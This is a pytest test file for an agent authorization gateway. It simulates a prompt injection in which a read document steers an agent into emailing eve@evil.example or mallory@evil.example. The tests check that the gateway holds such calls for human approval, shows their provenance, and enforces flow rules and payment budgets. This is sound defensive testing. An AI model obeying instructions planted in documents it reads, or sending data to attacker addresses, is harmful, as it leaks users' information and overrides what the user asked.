"""A document tells an agent what to do, and the gateway tells a person where that came from.

Over HTTP, with a real MCP server and the official client; nothing is patched. The agent does
whatever it reads: it is wholly compromised.
"""

import re
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from html import unescape
from pathlib import Path
from typing import Any

import httpx2
import pytest
from mcp.shared.exceptions import MCPError
from tests.conftest import Clock
from tests.fakes.gateway_mcp import journal_lines
from tests.fakes.gateway_world import Token, World, client, office_http, served
from tests.fakes.office_mcp import IBAN

from actfor.gateway.effects import Overlay
from actfor.gateway.enforce import Enforcer
from actfor.gateway.model import Http
from actfor.gateway.proposals import Proposals
from actfor.store import Database
from actfor.wire.rar import (
    Authority,
    Budget,
    Flow,
    Grant,
    Money,
    Period,
    Windowed,
    explain,
    narrows,
)

OVERLAYS = {
    "read_document": {"effect": "read", "results": "untrusted", "sinks": {"/path": "path"}},
    "send_email": {
        "effect": "share",
        "sinks": {"/to": "recipient", "/subject": "text", "/body": "text"},
    },
    "pay": {
        "effect": "pay",
        "amount": {"pointer": "/amount", "currency": "EUR"},
        "sinks": {"/to": "account"},
    },
}
READ = Grant("office", ("read_document",), ("read",))
SEND = Grant("office", ("send_email",), ("share",))
GOAL = "Summarise the documents of this week and send the summary to ada@example.com"


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    journal = tmp_path_factory.mktemp("office") / "journal"
    with office_http(journal) as url:
        yield journal, url


@pytest.fixture
async def world(
    database: Database, clock: Clock, tmp_path: Path, office: tuple[Path, str]
) -> AsyncIterator[World]:
    journal, url = office
    journal.unlink(missing_ok=True)
    async with served(database, clock.now, tmp_path, journal=journal) as made:
        await made.catalog.add_server(
            made.operator,
            "office",
            Http(url),
            approve_listed=True,
            overlays={name: Overlay.from_json(said) for name, said in OVERLAYS.items()},
        )
        yield made


class Agent:
    """Calls tools as any MCP client does: the tool's text, or the approval that is waited for."""

    def __init__(self, world: World, token: Token) -> None:
        self._world, self._token = world, token

    async def __call__(self, tool: str, **arguments: str) -> str:
        async with client(self._world, self._token, "legacy", server="office") as connected:
            try:
                result = await connected.call_tool(tool, arguments)
            except MCPError as error:
                return "denied" if error.message.startswith("denied:") else error.message
        text = "".join(getattr(block, "text", "") for block in result.content)
        if (asked := re.search(r"apr_[a-z2-7]{26}", text)) is not None:
            return asked.group()
        return text


class Person:
    """The operator in a browser, by hand: cookie, CSRF token, passkey."""

    def __init__(self, world: World) -> None:
        self._world = world

    async def look(self, approval: str) -> str:
        async with self._browser() as http:
            page = await http.get(f"/approvals/{approval}")
        assert page.status_code == 200, page.text
        return page.text

    async def approve(self, approval: str, *endorse: str) -> None:
        page = await self.look(approval)
        csrf = re.search(r'data-csrf="([^"]+)"', page)
        assert csrf is not None
        offered = {unescape(one) for one in re.findall(r'name="endorse" value="([^"]*)"', page)}
        assert set(endorse) <= offered
        headers = {"x-csrf-token": unescape(csrf[1])}
        path = f"/approvals/{approval}"
        async with self._browser() as http:
            ticked = {"endorse": list(endorse)}
            options = await http.post(f"{path}/options", json=ticked, headers=headers)
            assert options.status_code == 200, options.text
            signed = self._world.passkey.get(options.json())
            body = {"decision": "approve", "assertion": signed, **ticked}
            answer = await http.post(f"{path}/answer", json=body, headers=headers)
        assert answer.status_code == 200, answer.text

    def _browser(self) -> httpx2.AsyncClient:
        return httpx2.AsyncClient(
            base_url=self._world.issuer,
            cookies={"actfor_session": self._world.house.last or ""},
            headers={"origin": self._world.issuer},
        )


async def agent(world: World, *grants: Grant, **more: Any) -> Agent:
    return Agent(world, await world.token(*(grants or (READ, SEND)), server="office", **more))


def sent(world: World) -> list[str]:
    return [line["arguments"]["to"] for line in journal_lines(world.journal)]


async def test_what_a_document_says_is_held_and_the_person_sees_where_it_comes_from(
    world: World,
) -> None:
    act, person = await agent(world, goal=GOAL), Person(world)
    assert "eve@evil.example" in await act("read_document", path="minutes.txt")
    asked = await act("send_email", to="eve@evil.example", subject="Minutes", body="as asked")
    assert asked.startswith("apr_")
    assert sent(world) == []

    page = await person.look(asked)
    assert "Where the values come from" in page
    assert "other people&#39;s text" in page
    assert "office/read_document" in page
    assert "eve@evil.example" in page

    # What the person named goes through, without asking.
    said = await act("send_email", to="ada@example.com", subject="Summary", body="Budget agreed.")
    assert said == "sent"
    assert sent(world) == ["ada@example.com"]


async def test_also_a_document_that_the_person_named_does_not_give_orders(world: World) -> None:
    act = await agent(world, goal="Read minutes.txt and send a summary to ada@example.com")
    await act("read_document", path="minutes.txt")
    asked = await act("send_email", to="eve@evil.example", subject="Minutes", body="as asked")
    assert asked.startswith("apr_")
    assert "a text that others wrote asks for this" in await Person(world).look(asked)
    assert await act("send_email", to="ada@example.com", subject="Minutes", body="x") == "sent"


async def test_a_value_is_endorsed_for_one_argument_and_nothing_else_with_it(world: World) -> None:
    act, person = await agent(world, goal=GOAL), Person(world)
    await act("read_document", path="minutes.txt")
    mail = {"to": "eve@evil.example", "subject": "Minutes"}
    asked = await act("send_email", **mail, body="first")
    await person.approve(asked, "/to")
    assert await act("send_email", **mail, body="first") == "sent"
    # Asked no more about this value for this argument …
    assert await act("send_email", **mail, body="second") == "sent"
    # … but about others from the same document, and about this one elsewhere.
    for other in ({"to": "mallory@evil.example"}, {"to": "eve@evil.example, mallory@evil.example"}):
        assert (await act("send_email", subject="x", body="y", **other)).startswith("apr_")
    assert sent(world) == ["eve@evil.example"] * 2

    # And about this one again, once it is taken back.
    (mandate,) = await world.delegation.mandates(world.operator)
    (known,) = await world.delegation.endorsements(mandate.id)
    await world.delegation.withdraw_endorsement(world.operator, mandate.id, known.id)
    assert (await act("send_email", **mail, body="third")).startswith("apr_")


async def test_a_yes_without_a_tick_is_for_one_call(world: World) -> None:
    act, person = await agent(world, goal=GOAL), Person(world)
    await act("read_document", path="minutes.txt")
    mail = {"to": "eve@evil.example", "subject": "Minutes"}
    await person.approve(await act("send_email", **mail, body="first"))
    assert await act("send_email", **mail, body="first") == "sent"
    assert (await act("send_email", **mail, body="second")).startswith("apr_")


async def test_a_flow_rule_of_the_mandate_denies_whoever_would_approve(world: World) -> None:
    flows = (Flow("untrusted", "recipient", "deny"),)
    act = await agent(world, goal=GOAL, flows=flows)
    await act("read_document", path="minutes.txt")
    assert await act("send_email", to="eve@evil.example", subject="x", body="y") == "denied"
    assert await act("send_email", to="ada@example.com", subject="x", body="y") == "sent"


async def test_a_flow_rule_says_which_value_it_holds(world: World) -> None:
    """And not whichever target the call has, which may be the person's own."""
    act = await agent(world, goal=GOAL, flows=(Flow("untrusted", "share", "deny"),))
    await act("read_document", path="minutes.txt")
    said = {"to": "ada@example.com", "subject": "Summary", "body": "Minutes of Monday."}
    assert await act("send_email", **said) == "denied"
    told = str((await world.log("decide"))[0].private)
    assert "a flow rule of the mandate denies that this data goes there" in told
    assert "for `/body` comes from `office/read_document`" in told
    assert "`ada@example.com` for `/to`" not in told


async def test_small_payments_add_up_to_what_the_person_wanted_to_be_asked_about(
    world: World,
) -> None:
    pays = Grant("office", ("pay",), ("pay",), ask_above=Money.parse("20.00", "EUR"))
    act = await agent(world, READ, pays, goal=f"Pay the weekly fees to {IBAN}")
    ran = [await act("pay", to=IBAN, amount=f"9.0{n}") for n in range(3)]
    assert ran[:2] == ["paid", "paid"]
    assert ran[2].startswith("apr_")


async def test_a_budget_of_a_day_ends_a_series_of_small_payments(world: World) -> None:
    budget = Budget(windows=(Windowed(Period.DAY, amount=Money.parse("25.00", "EUR")),))
    pays = Grant("office", ("pay",), ("pay",))
    act = await agent(world, READ, pays, goal=f"Pay the weekly fees to {IBAN}", budget=budget)
    ran = [await act("pay", to=IBAN, amount=f"9.0{n}") for n in range(4)]
    assert ran == ["paid", "paid", "denied", "denied"]


async def test_after_a_restart_what_was_read_before_is_not_believed(
    world: World, office: tuple[Path, str]
) -> None:
    act = await agent(world, goal="Read bill.txt and send a note about it to ada@example.com")
    await act("read_document", path="bill.txt")
    memory = world.enforcer._gatherer.memory
    assert len(memory) == 1
    fresh = Enforcer(
        database=world.database, audit=world.house.audit, agents=world.agents,
        authorization=world.authorization, delegation=world.delegation,
        approvals=world.house.approvals, catalog=world.catalog, settings=world.settings,
        clock=world.house.clock,
    )  # fmt: skip
    world.enforcer = fresh
    world.front._enforcer = fresh
    asked = await act("send_email", to="plumber@example.org", subject="Hello", body="x")
    assert asked.startswith("apr_")
    page = await Person(world).look(asked)
    assert "what was read is not kept any more" in page
    # What the person said is still what they said.
    assert await act("send_email", to="ada@example.com", subject="Hello", body="x") == "sent"


def drafted(world: World, words: str) -> Authority:
    return Proposals(world.catalog).from_words(words, ["office"]).authority


async def under_draft(world: World, words: str, authority: Authority) -> Agent:
    return await agent(world, *authority.grants, goal=words)


async def test_a_draft_says_out_of_which_document_the_account_comes_and_lets_it_out_once(
    world: World,
) -> None:
    words = "Pay the bill in bill.txt"
    authority = drafted(world, words)
    (said,) = [line for line in explain(authority) if "must be an IBAN seen in" in line]
    assert "read_document of office" in said
    assert "*bill.txt" in said
    assert "at most 1 call" in said

    act, person = await under_draft(world, words, authority), Person(world)
    asked = await act("pay", to=IBAN, amount="98.70")  # the bill was not read yet
    assert "`/to` is not within its limit" in unescape(await person.look(asked))
    await act("read_document", path="bill.txt")
    assert await act("pay", to=IBAN, amount="98.70") == "paid"
    again = await act("pay", to=IBAN, amount="98.71")
    assert "its calls are used up" in await person.look(again)


async def test_beyond_the_limits_of_a_draft_a_person_is_asked_and_may_say_yes(
    world: World,
) -> None:
    words = f"Pay 20 EUR to {IBAN}"
    act = await under_draft(world, words, drafted(world, words))
    more = {"to": IBAN, "amount": "25.00"}
    asked = await act("pay", **more)
    page = unescape(await Person(world).look(asked))
    assert "beyond what the mandate lets pass without asking" in page
    assert "`/amount` is not within its limit" in page
    await Person(world).approve(asked)
    assert await act("pay", **more) == "paid"
    # One payment was meant, and was made: another is a question again.
    assert (await act("pay", to=IBAN, amount="20.00")).startswith("apr_")


async def test_who_strikes_what_is_beyond_has_it_denied(world: World) -> None:
    words = f"Pay 20 EUR to {IBAN}"
    whole = drafted(world, words)
    kept = tuple(grant for grant in whole.grants if grant.approval != "always")
    narrowed = replace(whole, grants=kept)
    assert narrows(narrowed, whole) is None
    assert narrows(whole, narrowed) is not None
    act = await under_draft(world, words, narrowed)
    assert await act("pay", to=IBAN, amount="25.00") == "denied"
    assert await act("pay", to=IBAN, amount="20.00") == "paid"
    assert await act("pay", to=IBAN, amount="20.00") == "denied"
